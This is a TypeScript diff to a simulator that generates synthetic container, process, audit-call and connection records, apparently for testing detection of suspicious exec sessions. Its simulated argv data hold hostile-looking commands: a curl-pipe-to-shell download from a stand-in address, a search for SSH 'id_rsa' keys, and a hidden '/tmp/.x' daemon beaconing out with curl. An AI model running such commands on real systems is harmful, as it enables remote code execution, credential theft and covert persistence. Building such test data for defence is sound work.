@@ -7,9 +7,15 @@ import { type Habits, habitsOf, type Scenario } from './scenario';
 
 export interface Node {
   readonly name: string;
+  readonly cluster: number;
   /** Its clock minus true time. */
   readonly offset: number;
+  /** Set by so much at a time. */
+  readonly step?: { readonly at: number; readonly by: number };
 }
+
+/** What the node's clock shows. */
+export const clockOf = ({ offset, step }: Node, at: number): number => at + offset + (step && at >= step.at ? step.by : 0);
 
 /** One run of a container. */
 export interface Life {
@@ -37,6 +43,10 @@ export interface Process {
   end: number;
   /** Undefined: the runtime's own, outside the container. */
   readonly parent?: Process;
+  /** The image on the same process id that it replaced by exec. */
+  readonly replaced?: Process;
+  /** Its parent ended before it began: the container's first process adopted it. */
+  readonly adopted?: boolean;
   life?: Life;
   readonly tty: boolean;
   /** It runs below a fork of its parent that executed nothing, so that no agent told of it. */
@@ -54,8 +64,17 @@ export interface Process {
   pts: number;
 }
 
+/** Opened by a process. */
+export interface Connection {
+  readonly process: Process;
+  readonly at: number;
+  readonly address: string;
+  readonly port: number;
+}
+
 export interface Call {
   readonly auditId: string;
+  readonly verb: 'create' | 'get';
   readonly server: number;
   readonly user: string;
   readonly container: Container;
@@ -73,6 +92,7 @@ export interface World {
   readonly chance: Chance;
   readonly containers: readonly Container[];
   readonly processes: readonly Process[];
+  readonly connections: readonly Connection[];
   readonly calls: readonly Call[];
   /** Clocks of the API servers minus true time. */
   readonly servers: readonly number[];
@@ -108,9 +128,16 @@ export function live(scenario: Scenario, seed: number): World {
   const chance = new Chance(seed);
   const habits = habitsOf(chance);
   const off = (): number => (scenario.offset ? chance.within(-scenario.offset, scenario.offset) : chance.within(-0.01, 0.01));
-  const nodes = ['node-a', 'node-b', 'node-c'].map((name): Node => ({ name, offset: off() }));
+  const clusters = scenario.twins ? [0, 1] : [0];
+  const nodes = clusters.flatMap((cluster) =>
+    ['node-a', 'node-b', 'node-c'].map((name): Node => {
+      const step = scenario.step && { at: chance.within(0.3, 0.7) * scenario.seconds, by: chance.of([-1, 1]) * scenario.step };
+      return { name: cluster === 0 ? name : name.replace('node', 'worker'), cluster, offset: off(), ...(step && { step }) };
+    }),
+  );
   const servers = scenario.offset ? [off() / 4, off() / 4] : [0, 0];
   const processes: Process[] = [];
+  const connections: Connection[] = [];
   const calls: Call[] = [];
   const until = scenario.seconds;
 
@@ -120,11 +147,14 @@ export function live(scenario: Scenario, seed: number): World {
     return made;
   };
 
-  const containers = Array.from({ length: 8 }, (_, i): Container => {
-    const pod = `${chance.of(['shop', 'cart', 'mail', 'auth'])}-${chance.hex(5)}`;
+  const pods = Array.from({ length: 8 }, () => `${chance.of(['shop', 'cart', 'mail', 'auth'])}-${chance.hex(5)}`);
+  const namespaces = pods.map(() => chance.of(['store', 'office']));
+  const containers = Array.from({ length: 8 * clusters.length }, (_, n): Container => {
+    const [i, cluster] = [n % 8, Math.floor(n / 8)];
+    const pod = pods[i] as string;
     const made: Container = {
-      node: nodes[i % nodes.length] as Node,
-      namespace: chance.of(['store', 'office']),
+      node: nodes[cluster * 3 + (i % 3)] as Node,
+      namespace: namespaces[i] as string,
       pod,
       name: 'main',
       sharedPids: scenario.sharedPids === true && i % 3 === 0,
@@ -165,11 +195,30 @@ export function live(scenario: Scenario, seed: number): World {
   const delay = (): number =>
     chance.holds(habits.slow) ? chance.logNormal(habits.slowDelay, 0.9) : chance.logNormal(habits.delay, habits.delaySigma);
 
+  /** Another image on the same process id. */
+  const replace = (image: Process, argv: readonly string[], at: number): Process => {
+    const next = begin({ ...image, argv, start: at, replaced: image });
+    image.end = at;
+    return next;
+  };
+
   /** Commands below a shell, until it ends. */
   const work = (root: Process, life: Life, session: string | undefined, init: boolean): void => {
     let at = root.start + chance.within(0.05, 2);
-    const below = (parent: Process, argv: readonly string[], start: number, lasts: number): Process =>
-      begin({
+    const join = (process: Parameters<typeof begin>[0]): Process => {
+      const made = begin(process);
+      if (scenario.connections && chance.holds(0.3))
+        connections.push({
+          process: made,
+          at: chance.within(made.start, made.end),
+          address: `198.51.100.${chance.whole(1, 250)}`,
+          port: chance.of([80, 443, 5432]),
+        });
+      return made;
+    };
+    const below = (parent: Process, argv: readonly string[], start: number, lasts: number, adopted = false): Process =>
+      join({
+        ...(adopted && { adopted }),
         node: root.node,
         argv,
         start,
@@ -181,7 +230,7 @@ export function live(scenario: Scenario, seed: number): World {
         probe: false,
         session,
         leader: root,
-        forked: chance.holds(0.08),
+        forked: !adopted && chance.holds(0.08),
       });
     while (at < root.end - 0.05) {
       const lasts = Math.min(chance.logNormal(0.05, 1.5), Math.max(0.002, root.end - at - 0.01));
@@ -189,8 +238,16 @@ export function live(scenario: Scenario, seed: number): World {
         const shell = below(root, ['sh', '-c', 'curl -s http://198.51.100.9/i | sh'], at, lasts);
         below(shell, ['curl', '-s', 'http://198.51.100.9/i'], at + lasts * 0.2, lasts * 0.5);
         below(shell, ['sh'], at + lasts * 0.25, lasts * 0.6);
+      } else if (scenario.replaced && chance.holds(0.2)) {
+        const first = below(root, ['sh', '-c', 'exec find / -name id_rsa'], at, lasts);
+        replace(first, ['find', '/', '-name', 'id_rsa'], at + lasts * 0.1);
       } else below(root, chance.of(WORK), at, lasts);
       at += lasts + chance.logNormal(3, 1);
+    }
+    if (scenario.daemons && session !== undefined && root.end - root.start > 5 && chance.holds(0.4)) {
+      const from = root.start + (root.end - root.start) * chance.within(0.3, 0.9);
+      const daemon = below(life.init, ['/tmp/.x', '-d'], from, chance.within(20, 300), true);
+      below(daemon, ['curl', '-s', 'http://198.51.100.9/beat'], Math.min(daemon.end - 0.5, root.end + 3), 0.2);
     }
     if (scenario.odd && session !== undefined && chance.holds(0.08)) {
       const stays = below(root, ['nohup', 'sleep', '900'], root.end - 0.03, chance.within(30, 900));
@@ -203,9 +260,10 @@ export function live(scenario: Scenario, seed: number): World {
     const life = lifeAt(container, received);
     if (!life || received + 30 > life.until) return;
     const auditId = [8, 4, 4, 4, 12].map((n) => chance.hex(n)).join('-');
-    const told = {
+    const told: { verb: Call['verb'] } & Omit<Call, 'verb' | 'code' | 'ready' | 'complete'> = {
       auditId,
-      server: chance.whole(0, servers0 - 1),
+      verb: scenario.websockets && chance.holds(0.7) ? 'get' : 'create',
+      server: scenario.twins ? container.node.cluster : chance.whole(0, servers0 - 1),
       user: `person-${chance.whole(1, 6)}`,
       container,
       argv,
@@ -213,6 +271,13 @@ export function live(scenario: Scenario, seed: number): World {
       received,
     };
     const ready = received + chance.logNormal(habits.roundTrip, 0.5);
+    if (told.verb === 'get' && chance.holds(0.15)) {
+      // Asked again by itself, as a POST.
+      const refused = received - chance.within(0.02, 0.1);
+      const id = [8, 4, 4, 4, 12].map((n) => chance.hex(n)).join('-');
+      calls.push({ ...told, auditId: id, received: refused, code: 403, ready: refused + 0.004, complete: refused + 0.004 });
+      told.verb = 'create';
+    }
     if (scenario.odd && chance.holds(0.05)) {
       calls.push({ ...told, code: 403, ready: received + 0.003, complete: received + 0.003 });
       return;
@@ -227,7 +292,8 @@ export function live(scenario: Scenario, seed: number): World {
     const complete = left ? start + chance.within(0.5, lasts - 1) : end + chance.logNormal(habits.gap, habits.gapSigma);
     calls.push({ ...told, code: 101, ready, complete });
     const root = begin({ node: container.node, argv, start, end, life, tty, init: false, probe: false, session: auditId });
-    work(root, life, auditId, false);
+    const shell = scenario.replaced && argv.length === 1 && chance.holds(0.4);
+    work(shell ? replace(root, ['bash', '--login'], start + chance.within(0.001, 0.02)) : root, life, auditId, false);
   };
 
   for (let i = 0; i < scenario.sessions; i++) {
@@ -289,7 +355,7 @@ export function live(scenario: Scenario, seed: number): World {
     }
   }
   number(processes, scenario, chance);
-  return { scenario, habits, chance, containers, processes, calls, servers };
+  return { scenario, habits, chance, containers, processes, connections, calls, servers };
 }
 
 /** Process ids in the order of time, as a kernel hands them out. */
@@ -300,6 +366,14 @@ function number(processes: Process[], scenario: Scenario, chance: Chance): void 
   const busy = new Map<string, number>();
   const terminals: Process[] = [];
   for (const process of processes) {
+    const { replaced } = process;
+    if (replaced) {
+      process.pid = replaced.pid;
+      process.pts = replaced.pts;
+      process.vpid = replaced.vpid;
+      busy.set(`${process.node.name} ${process.pid}`, process.end);
+      continue;
+    }
     const { name } = process.node;
     let pid = last.get(name) ?? chance.whole(300, 900);
     do {
